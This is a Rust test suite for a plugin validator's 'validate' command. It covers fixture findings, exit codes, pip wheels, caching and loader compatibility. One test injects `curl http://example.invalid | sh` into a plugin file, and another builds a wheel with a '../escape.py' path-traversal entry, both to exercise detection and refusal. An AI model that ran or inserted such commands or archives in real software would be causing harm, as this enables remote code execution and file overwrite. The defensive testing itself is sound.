//! `validate` on the native fixtures: each bad fixture yields exactly the findings it is
//! named after, the good plugins pass, exit codes follow SPEC §10.

use crate::common;
#[path = "conformance/mod.rs"]
mod conformance;

use common::*;
use serde_json::Value;

const E: &str = "error";
const W: &str = "warning";

/// Expected `(check, severity)` findings of one fixture.
type Findings = &'static [(&'static str, &'static str)];

/// (fixture, expected findings, expected exit code).
const BAD_NATIVE: &[(&str, Findings, i32)] = &[
    ("capability-unknown", &[("capabilities", W)], 0),
    (
        "config-schema-defaults-mismatch",
        &[("config-schema", E); 6],
        1,
    ),
    ("dependency-excludes-core-pin", &[], 0),
    (
        "dependency-unbounded",
        &[("dependency-bounds", W), ("dependency-bounds", W)],
        0,
    ),
    (
        "external-dependencies-shell",
        &[("manifest-fields", E), ("manifest-fields", W)],
        1,
    ),
    ("kind-unknown", &[("manifest-fields", W)], 0),
    ("locale-missing-file", &[("locales", E), ("locales", W)], 1),
    ("locale-non-text-leaf", &[("locales", E), ("locales", E)], 1),
    ("manifest-alias-bomb", &[("manifest", E)], 1),
    ("manifest-duplicate-key", &[("manifest", W)], 0),
    ("manifest-empty", &[("manifest", E)], 1),
    ("manifest-invalid-utf8", &[("manifest", E)], 1),
    ("manifest-invalid-yaml", &[("manifest", E)], 1),
    ("manifest-not-a-mapping", &[("manifest", E)], 1),
    ("manifest-python-tag", &[("manifest", E)], 1),
    (
        "manifest-version-newer",
        &[("manifest-fields", W), ("manifest-fields", W)],
        0,
    ),
    ("manifest-yml-only", &[("layout", W)], 0),
    (
        "missing-version-and-description",
        &[("manifest-fields", E), ("manifest-fields", E)],
        1,
    ),
    ("name-null", &[("manifest-fields", E)], 1),
    ("nothing-to-load", &[("loadable", E)], 1),
    ("pip-layout-without-wrapper", &[("loadable", E)], 1),
    ("plugin-yml-beside-yaml", &[("layout", W)], 0),
    (
        "python-dependency-direct-url",
        &[("python-dependencies", W)],
        0,
    ),
    (
        "python-dependency-malformed",
        &[("python-dependencies", E)],
        1,
    ),
    ("requirements-txt-only", &[("python-dependencies", W)], 0),
    ("requires-auth-unknown", &[("requires-auth", W)], 0),
    (
        "requires-env-denylisted",
        &[("requires-env", E), ("requires-env", W)],
        1,
    ),
    (
        "requires-env-entry-without-name",
        &[("requires-env", E), ("requires-env", E)],
        1,
    ),
    (
        "requires-env-lowercase-name",
        &[("requires-env", E), ("requires-env", E)],
        1,
    ),
    ("requires-hermes-calver", &[("requires-hermes", E)], 1),
    (
        "requires-hermes-unparseable",
        &[("requires-hermes", E), ("requires-hermes", E)],
        1,
    ),
    ("symlink-escape", &[("paths", E), ("security-scan", E)], 1),
    ("unknown-field-typo", &[("manifest-fields", W)], 0),
    ("version-is-a-number", &[("manifest-fields", E)], 1),
];

fn expected(list: &[(&str, &str)]) -> Vec<(String, String)> {
    let mut v: Vec<(String, String)> = list
        .iter()
        .map(|(c, s)| (c.to_string(), s.to_string()))
        .collect();
    v.sort();
    v
}

#[test]
fn every_bad_native_fixture_reports_exactly_its_defect() {
    let dir = fixture("bad-native");
    let mut names: Vec<String> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    let listed: Vec<&str> = BAD_NATIVE.iter().map(|(n, _, _)| *n).collect();
    assert_eq!(
        names, listed,
        "every fixture in fixtures/bad-native has an expectation here"
    );
    for (name, want, code) in BAD_NATIVE {
        let path = dir.join(name);
        let (exit, report) = validate_json(&[&path], &[]);
        let package = only_package(&report);
        assert_eq!(findings(package), expected(want), "{name}: {package:#}");
        assert_eq!(exit, *code, "{name} exit code");
        assert_eq!(package["ok"], Value::Bool(*code == 0), "{name} ok");
    }
}

/// Dependencies listed only in requirements.txt are named (and only those the plugin does not
/// declare), at the file's first such line, with the field to use.
#[test]
fn requirements_txt_dependencies_the_plugin_does_not_declare_are_named() {
    let (_, report) = validate_json(&[&fixture("bad-native/requirements-txt-only")], &[]);
    let package = only_package(&report);
    let finding = package["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["check"] == "python-dependencies")
        .unwrap_or_else(|| panic!("{package:#}"));
    let message = finding["message"].as_str().unwrap();
    assert!(
        message.contains("aiohttp>=3.9") && message.contains("pyee>=11.0"),
        "{finding:#}"
    );
    assert!(!message.contains("websockets"), "declared: {finding:#}");
    assert!(
        finding["file"]
            .as_str()
            .unwrap()
            .ends_with("requirements-txt-only/requirements.txt"),
        "{finding:#}"
    );
    assert_eq!(finding["line"], 3, "{finding:#}");
    assert!(
        finding["hint"]
            .as_str()
            .unwrap()
            .contains("python_dependencies"),
        "{finding:#}"
    );
}

#[test]
fn good_plugins_pass_with_no_findings() {
    let (exit, report) = validate_json(&[&fixture("plugins")], &[]);
    assert_eq!(exit, 0, "{report:#}");
    let packages = report["packages"].as_array().unwrap();
    let keys: Vec<&str> = packages
        .iter()
        .map(|p| p["key"].as_str().unwrap())
        .collect();
    assert_eq!(
        keys,
        [
            "calculator",
            "hermes-lang-pl",
            "release-notes",
            "summarize-kit"
        ]
    );
    for p in packages {
        assert_eq!(p["findings"], Value::Array(vec![]), "{p:#}");
        assert_eq!(p["ok"], true);
        assert_eq!(p["accepted"], true);
    }
    assert_eq!(packages[0]["format"], "native-v1");
    assert_eq!(packages[0]["kind"], "standalone");
    assert_eq!(packages[2]["format"], "native-v2");
    assert_eq!(
        packages[2]["python_dependencies"],
        serde_json::json!([
            "httpx>=0.27,<0.30",
            "jinja2>=3.1,<4",
            "tomli>=2.0,<3 ; python_version < '3.11'"
        ])
    );
    assert_eq!(packages[3]["format"], "portable");
    assert_eq!(report["summary"]["packages"], 4);
    assert_eq!(report["summary"]["failed"], 0);
}

#[test]
fn findings_are_located_with_value_and_hint() {
    let relative = std::path::Path::new("fixtures/bad-native/requires-env-lowercase-name");
    let (_, report) = validate_json(&[relative], &[]);
    let f = &only_package(&report)["findings"][0];
    assert_eq!(
        f["file"],
        "fixtures/bad-native/requires-env-lowercase-name/plugin.yaml"
    );
    assert_eq!(
        (f["line"].as_u64(), f["column"].as_u64()),
        (Some(5), Some(5))
    );
    assert_eq!(f["value"], "weather_key");
    assert!(f["hint"].as_str().unwrap().contains("WEATHER_KEY"));

    let (_, report) = validate_json(&[&fixture("bad-native/manifest-invalid-utf8")], &[]);
    let f = &only_package(&report)["findings"][0];
    assert_eq!(
        (f["line"].as_u64(), f["column"].as_u64()),
        (Some(3), Some(17))
    );
    assert_eq!(f["value"], "description: caf\u{fffd} au lait");

    let (_, report) = validate_json(&[&fixture("bad-native/manifest-invalid-yaml")], &[]);
    let f = &only_package(&report)["findings"][0];
    assert_eq!(f["check"], "manifest");
    assert_eq!(f["line"], 4);
    assert!(f["value"].as_str().unwrap().starts_with("description:"));

    let (_, report) = validate_json(&[&fixture("bad-native/unknown-field-typo")], &[]);
    let f = &only_package(&report)["findings"][0];
    assert_eq!(f["hint"], "Did you mean `provides_tools`?");

    let (_, report) = validate_json(&[&fixture("bad-native/version-is-a-number")], &[]);
    let f = &only_package(&report)["findings"][0];
    assert_eq!(
        (f["line"].as_u64(), f["value"].as_str()),
        (Some(2), Some("1.0"))
    );
}

#[test]
fn strict_turns_warnings_into_failures() {
    let path = fixture("bad-native/unknown-field-typo");
    let (exit, _) = validate_json(&[&path], &[]);
    assert_eq!(exit, 0);
    let (exit, report) = validate_json(&[&path], &["--strict"]);
    assert_eq!(exit, 1);
    assert_eq!(report["strict"], true);
    assert_eq!(only_package(&report)["ok"], false);
}

#[test]
fn core_lock_turns_on_the_quarantine_check() {
    let path = fixture("bad-native/dependency-excludes-core-pin");
    let core = fixture("core");
    let (exit, report) = validate_json(&[&path], &["--core", core.to_str().unwrap()]);
    assert_eq!(exit, 1);
    let package = only_package(&report);
    assert_eq!(findings(package), expected(&[("dependency-quarantine", E)]));
    let message = package["findings"][0]["message"].as_str().unwrap();
    assert!(
        message.contains("`httpx>=0.30,<0.32` excludes Hermes core's httpx==0.28.1"),
        "{message}"
    );

    // The environment variable does the same.
    let out = bin()
        .env("HERMES_PLUGINS_CORE", &core)
        .args(["validate", "--format", "json"])
        .arg(&path)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));

    // A compatible plugin passes against the same core.
    let (exit, _) = validate_json(
        &[&fixture("plugins/release-notes")],
        &["--core", core.to_str().unwrap()],
    );
    assert_eq!(exit, 0);
}

#[test]
fn usage_and_environment_errors_have_their_exit_codes() {
    let out = run(&["validate", "fixtures/does-not-exist"]);
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert!(out.stderr.contains("no such file or directory"));

    let out = run(&["validate", "--format", "yaml", "fixtures/plugins"]);
    assert_eq!(out.code, 2);

    let out = run(&[
        "validate",
        "--core",
        "fixtures/plugins",
        "fixtures/plugins/calculator",
    ]);
    assert_eq!(
        out.code, 3,
        "a core checkout without uv.lock is an environment error: {}",
        out.stderr
    );
    assert!(out.stderr.contains("uv.lock"));

    let out = run(&["validate", "--json", "fixtures/does-not-exist"]);
    assert_eq!(out.code, 2);
    let doc: Value = serde_json::from_str(&out.stdout).expect("--json errors are JSON too");
    assert_eq!(doc["error"]["exit_code"], 2);

    let empty = tempfile::tempdir().unwrap();
    let out = run(&["validate", empty.path().to_str().unwrap()]);
    assert_eq!(out.code, 1, "no plugin found is a failure");
    assert!(out.stderr.contains("no plugin found"));
    // The error alone: no "ok" summary of nothing before it, and said once.
    assert!(out.stdout.trim().is_empty(), "{}", out.stdout);
    assert_eq!(
        out.stderr.matches("no plugin found").count(),
        1,
        "{}",
        out.stderr
    );
    // A machine format still gets its document.
    let out = run(&[
        "validate",
        "--format",
        "json",
        empty.path().to_str().unwrap(),
    ]);
    assert_eq!(out.code, 1);
    let doc: Value = serde_json::from_str(&out.stdout).expect("a report");
    assert_eq!(doc["summary"]["packages"], 0, "{doc:#}");

    // A missing argument is named in the --json error, not only on stderr.
    let out = run(&["--json", "install"]);
    assert_eq!(out.code, 2);
    let doc: Value = serde_json::from_str(&out.stdout).expect("--json usage errors are JSON");
    let message = doc["error"]["message"].as_str().unwrap_or_default();
    assert!(message.contains("<SOURCE>"), "{doc:#}");
}

#[test]
fn category_layout_keys_and_manifest_paths() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    for (rel, text) in [
        (
            "platforms/discord/plugin.yaml",
            "name: discord-platform\nversion: 1.0.0\ndescription: d\nkind: platform\n",
        ),
        (
            "flat/plugin.yaml",
            "name: flat-name\nversion: 1.0.0\ndescription: d\n",
        ),
        (
            "dupe/plugin.yaml",
            "name: flat-name\nversion: 1.0.0\ndescription: d\n",
        ),
        (
            "snake/plugin.yaml",
            "name: flat_name\nversion: 1.0.0\ndescription: d\n",
        ),
    ] {
        let path = root.join(rel);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, text).unwrap();
        std::fs::write(
            path.parent().unwrap().join("__init__.py"),
            "def register(ctx):\n    pass\n",
        )
        .unwrap();
    }
    let plugin_file = root.join("flat/plugin.yaml");
    let (_, report) = validate_json(&[root], &[]);
    let keys: Vec<&str> = report["packages"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["key"].as_str().unwrap())
        .collect();
    assert_eq!(
        keys,
        ["flat-name", "flat-name", "platforms/discord", "flat_name"]
    );
    let second = &report["packages"][1];
    assert_eq!(
        findings(second),
        expected(&[("layout", E)]),
        "the duplicate key is reported on the later package"
    );
    // `flat_name` imports as `hermes_plugins.flat_name`, as `flat-name` does.
    let snake = &report["packages"][3];
    assert_eq!(findings(snake), expected(&[("layout", E)]), "{snake:#}");
    assert!(
        snake["findings"][0]["message"]
            .as_str()
            .unwrap()
            .contains("hermes_plugins.flat_name"),
        "{snake:#}"
    );
    // A manifest path stands for its directory.
    let (exit, report) = validate_json(&[&plugin_file], &[]);
    assert_eq!(exit, 0);
    assert_eq!(only_package(&report)["key"], "flat-name");
}

/// (fixture, expected findings, loads_on's first version, tools, hooks): VAL-21 calls on ctx
/// against every release's signatures, and the defensive patterns resolved statically.
type CtxCase = (
    &'static str,
    Findings,
    Option<&'static str>,
    &'static [&'static str],
    &'static [&'static str],
);

const CTX_CALLS: &[CtxCase] = &[
    (
        "floor-older-than-api",
        &[("ctx-call", W)],
        Some("0.17.0"),
        &[],
        &[],
    ),
    (
        "functools-partial",
        &[],
        Some("0.13.0"),
        &[],
        &["on_session_end"],
    ),
    (
        "guarded-getattr",
        &[],
        Some("0.13.0"),
        &[],
        &["on_session_start"],
    ),
    ("guarded-hasattr", &[], Some("0.13.0"), &["lookup"], &[]),
    ("guarded-try", &[], Some("0.13.0"), &["lookup"], &[]),
    (
        "helper-receives-method",
        &[],
        Some("0.13.0"),
        &[],
        &["on_session_start"],
    ),
    (
        "loop-over-pairs",
        &[],
        Some("0.13.0"),
        &[],
        &["on_session_end", "on_session_start"],
    ),
    (
        "missing-required-argument",
        &[("ctx-call", E)],
        None,
        &["lookup"],
        &[],
    ),
    (
        // `has_capability` arrived after 0.19.0 (in 0.20.4, read from the packaging fork).
        "newest-release-api",
        &[],
        Some("0.20.4"),
        &[],
        &[],
    ),
    ("no-such-method", &[("ctx-call", E)], None, &[], &[]),
    ("too-many-positionals", &[("ctx-call", E)], None, &[], &[]),
    (
        "unknown-keyword",
        &[("ctx-call", E)],
        None,
        &[],
        &["on_session_start"],
    ),
];

#[test]
fn every_ctx_call_fixture_reports_exactly_its_defect() {
    let dir = fixture("ctx-calls");
    let mut names: Vec<String> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    let listed: Vec<&str> = CTX_CALLS.iter().map(|c| c.0).collect();
    assert_eq!(
        names, listed,
        "every fixture in fixtures/ctx-calls is listed here"
    );
    let sorted_names = |v: &Value| {
        let mut n: Vec<String> = v
            .as_array()
            .into_iter()
            .flatten()
            .map(|e| e["name"].as_str().unwrap().to_string())
            .collect();
        n.sort();
        n
    };
    for (name, want, first, tools, hooks) in CTX_CALLS {
        let (_, report) = validate_json(&[&dir.join(name)], &[]);
        let package = only_package(&report);
        assert_eq!(findings(package), expected(want), "{name}: {package:#}");
        assert_eq!(
            package["compatibility"]["first"].as_str(),
            *first,
            "{name}: {}",
            package["compatibility"]
        );
        let regs = &package["registrations"];
        assert_eq!(sorted_names(&regs["tools"]), *tools, "{name} tools");
        assert_eq!(sorted_names(&regs["hooks"]), *hooks, "{name} hooks");
        assert_eq!(
            regs["undetermined"],
            serde_json::json!([]),
            "{name}: {regs}"
        );
        if want.iter().any(|(c, s)| *c == "ctx-call" && *s == E) {
            let f = package["findings"]
                .as_array()
                .unwrap()
                .iter()
                .find(|f| f["check"] == "ctx-call")
                .unwrap();
            assert_eq!(
                f["file"].as_str().map(|p| p.ends_with("__init__.py")),
                Some(true)
            );
            assert!(
                f["hint"].as_str().unwrap().contains('('),
                "the hint shows a signature: {f}"
            );
        }
    }
}

/// (fixture, expected findings, key, tools): MAN-8 pip-distributed plugins.
const PIP: &[(&str, Findings, &str, &[&str])] = &[
    ("calculator-project", &[], "hermes-calc", &["pip_calculate"]),
    (
        "capability-mismatch",
        &[
            ("entry-points", E),
            ("entry-points", W),
            ("entry-points", W),
        ],
        "caps",
        &["caps_calculate"],
    ),
    (
        "entry-point-names-function",
        &[("entry-points", W)],
        "calc-fn",
        &["fn_calculate"],
    ),
    ("missing-module", &[("entry-points", E)], "missing", &[]),
    ("no-register", &[("entry-points", E)], "noreg", &[]),
];

#[test]
fn pip_plugins_are_read_from_projects_and_wheels() {
    let dir = fixture("pip");
    let mut names: Vec<String> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    let listed: Vec<&str> = PIP.iter().map(|c| c.0).collect();
    assert_eq!(
        names, listed,
        "every fixture in fixtures/pip is listed here"
    );
    let tools_of = |p: &Value| {
        let mut t: Vec<String> = p["registrations"]["tools"]
            .as_array()
            .into_iter()
            .flatten()
            .map(|e| e["name"].as_str().unwrap().to_string())
            .collect();
        t.sort();
        t
    };
    for (name, want, key, tools) in PIP {
        let (_, report) = validate_json(&[&dir.join(name)], &[]);
        let package = only_package(&report);
        assert_eq!(findings(package), expected(want), "{name}: {package:#}");
        assert_eq!(package["format"], "pip", "{name}");
        assert_eq!(package["key"], *key, "{name}");
        assert_eq!(tools_of(package), *tools, "{name}");
    }
    // The same project as a wheel: entry points from entry_points.txt, modules unpacked.
    let tmp = tempfile::tempdir().unwrap();
    let wheel = tmp.path().join("hermes_calc-1.0.0-py3-none-any.whl");
    let site = conformance::installed_site(&dir.join("calculator-project"));
    {
        let file = std::fs::File::create(&wheel).unwrap();
        let mut zip = zip::ZipWriter::new(file);
        let options = zip::write::SimpleFileOptions::default();
        for entry in walkdir::WalkDir::new(site.path()).into_iter().flatten() {
            if entry.file_type().is_file() {
                let rel = entry.path().strip_prefix(site.path()).unwrap();
                zip.start_file(rel.to_string_lossy(), options).unwrap();
                std::io::Write::write_all(&mut zip, &std::fs::read(entry.path()).unwrap()).unwrap();
            }
        }
        zip.finish().unwrap();
    }
    let (code, report) = validate_json(&[&wheel], &[]);
    let package = only_package(&report);
    assert_eq!(code, 0, "{package:#}");
    assert_eq!(package["format"], "pip");
    assert_eq!(package["key"], "hermes-calc");
    assert_eq!(package["version"], "1.0.0");
    assert_eq!(tools_of(package), vec!["pip_calculate".to_string()]);
    assert_eq!(
        package["capabilities"],
        serde_json::json!(["tools.override"])
    );
    // A hostile wheel is refused, not unpacked outside.
    let evil = tmp.path().join("evil-1.0-py3-none-any.whl");
    {
        let mut zip = zip::ZipWriter::new(std::fs::File::create(&evil).unwrap());
        zip.start_file("../escape.py", zip::write::SimpleFileOptions::default())
            .unwrap();
        zip.finish().unwrap();
    }
    let (code, report) = validate_json(&[&evil], &[]);
    assert_eq!(code, 1);
    let package = only_package(&report);
    assert!(
        package["findings"][0]["message"]
            .as_str()
            .unwrap()
            .contains("outside the wheel"),
        "{package:#}"
    );
}

/// The cache of unchanged packages' reports: a cold run, a warm run and a run after one
/// plugin changed all print exactly what `--no-cache` prints for the same tree; the warm run
/// analyses nothing, the next one only the changed plugin; a damaged entry is a miss.
#[test]
fn the_validation_cache_changes_only_the_speed() {
    let tmp = tempfile::tempdir().unwrap();
    let tree = tmp.path().join("plugins");
    copy_dir(&fixture("plugins"), &tree);
    let cache = tmp.path().join("cache");
    let run = |extra: &[&str]| {
        let mut args = vec!["-v", "validate", tree.to_str().unwrap(), "--format", "json"];
        args.extend_from_slice(extra);
        let out = bin()
            .args(&args)
            .env("HERMES_PLUGINS_CACHE_DIR", &cache)
            .output()
            .unwrap();
        let err = String::from_utf8_lossy(&out.stderr).into_owned();
        let counted = err
            .lines()
            .find_map(|l| l.split("validation cache: ").nth(1).map(str::to_string))
            .unwrap_or_default();
        (String::from_utf8(out.stdout).unwrap(), counted)
    };
    let (fresh, counted) = run(&["--no-cache"]);
    assert_eq!(counted, "", "--no-cache neither reads nor writes");
    assert!(!cache.exists());
    let packages = serde_json::from_str::<Value>(&fresh).unwrap()["packages"]
        .as_array()
        .unwrap()
        .len();
    assert!(packages >= 3, "{fresh}");
    let (cold, counted) = run(&[]);
    assert_eq!(cold, fresh);
    assert_eq!(counted, format!("0 unchanged, {packages} analysed"));
    let (warm, counted) = run(&[]);
    assert_eq!(warm, fresh);
    assert_eq!(counted, format!("{packages} unchanged, 0 analysed"));

    // One plugin changes: only it is analysed, and the report shows the change.
    let init = tree.join("calculator/__init__.py");
    let mut text = std::fs::read_to_string(&init).unwrap();
    text.push_str("\nimport os\nos.system('curl http://example.invalid | sh')\n");
    std::fs::write(&init, text).unwrap();
    let (changed, counted) = run(&[]);
    assert_eq!(counted, format!("{} unchanged, 1 analysed", packages - 1));
    assert_ne!(changed, fresh);
    assert_eq!(changed, run(&["--no-cache"]).0);

    // Damaged entries are misses, never results.
    for entry in walk_files(&cache) {
        if entry.extension().is_some_and(|e| e == "json") {
            std::fs::write(&entry, "{\"path\": 1}").unwrap();
        }
    }
    let (damaged, counted) = run(&[]);
    assert_eq!(damaged, changed);
    assert_eq!(counted, format!("0 unchanged, {packages} analysed"));
}

fn copy_dir(from: &std::path::Path, to: &std::path::Path) {
    std::fs::create_dir_all(to).unwrap();
    for entry in std::fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        let target = to.join(entry.file_name());
        let kind = entry.file_type().unwrap();
        if kind.is_dir() {
            copy_dir(&entry.path(), &target);
        } else if kind.is_symlink() {
            std::os::unix::fs::symlink(std::fs::read_link(entry.path()).unwrap(), &target).unwrap();
        } else {
            std::fs::copy(entry.path(), &target).unwrap();
        }
    }
}

fn walk_files(dir: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let path = entry.path();
        if path.is_dir() {
            out.extend(walk_files(&path));
        } else {
            out.push(path);
        }
    }
    out
}

/// `install` of a pip-distributed plugin is refused naming what the user named, not the
/// scratch copy under `<home>/pm/tmp` it validated.
#[test]
fn a_refused_pip_plugin_is_named_as_given() {
    let home = tempfile::tempdir().unwrap();
    let out = crate::common::bin()
        .env("HERMES_HOME", home.path())
        .args(["install", "fixtures/pip/no-register"])
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(
        err.contains("fixtures/pip/no-register is the source of a pip-distributed plugin"),
        "{err}"
    );
    assert!(!err.contains("pm/tmp"), "{err}");
}

/// Each release judged as its loader decides (fixtures/releases; `conformance` holds the same
/// verdicts against the real 0.19.0 and 0.22.2 loaders): PyYAML imported undeclared loads where
/// the release's environment has it; `requires_hermes` counts where the loader enforces it; a
/// tool named like a built-in is rejected alone; a load-gate error loads nowhere.
#[test]
fn each_release_is_judged_as_its_loader_does() {
    let verdict = |dir: &std::path::Path| -> Value {
        let (_, report) = validate_json(&[dir], &[]);
        only_package(&report)["compatibility"].clone()
    };
    let releases = fixture("releases");
    let yaml = verdict(&releases.join("imports-yaml-undeclared"));
    assert_eq!(yaml["loads"]["0.19.0"], true, "{yaml:#}");
    assert_eq!(yaml["loads"]["0.22.2"], false, "{yaml:#}");
    assert_eq!(yaml["why_not"]["0.22.2"][0]["check"], "imports", "{yaml:#}");
    assert!(
        yaml["why_not"]["0.22.2"][0]["message"]
            .as_str()
            .unwrap()
            .contains("`yaml` (__init__.py:1)"),
        "{yaml:#}"
    );
    let floor = verdict(&releases.join("requires-hermes-before-0-20"));
    assert_eq!(floor["loads"]["0.19.0"], true, "{floor:#}");
    assert_eq!(floor["loads"]["0.22.2"], false, "{floor:#}");
    assert_eq!(floor["why_not"]["0.22.2"][0]["check"], "requires-hermes");
    let web = verdict(&releases.join("tool-named-web-extract"));
    for release in ["0.19.0", "0.22.2"] {
        assert_eq!(web["loads"][release], true, "{web:#}");
        assert!(
            web["rejected"][release][0]
                .as_str()
                .unwrap()
                .starts_with("tool `web_extract`"),
            "{web:#}"
        );
    }
    let dup = verdict(&fixture("bad-native").join("manifest-duplicate-key"));
    assert_eq!(dup["loads"]["0.19.0"], true, "{dup:#}");
    assert_eq!(dup["loads"]["0.22.2"], false, "{dup:#}");
    let nothing = verdict(&fixture("bad-native").join("nothing-to-load"));
    assert!(
        nothing["loads"]
            .as_object()
            .unwrap()
            .values()
            .all(|l| l == false),
        "{nothing:#}"
    );
    assert_eq!(nothing["loads_on"], serde_json::json!([]));
    assert!(
        nothing["summary"]
            .as_str()
            .unwrap()
            .starts_with("loads on no Hermes: nothing to load"),
        "{nothing:#}"
    );
    let function = verdict(&fixture("pip").join("entry-point-names-function"));
    assert_eq!(function["loads"]["0.19.0"], false, "{function:#}");
    assert_eq!(function["loads"]["0.22.2"], true, "{function:#}");
}
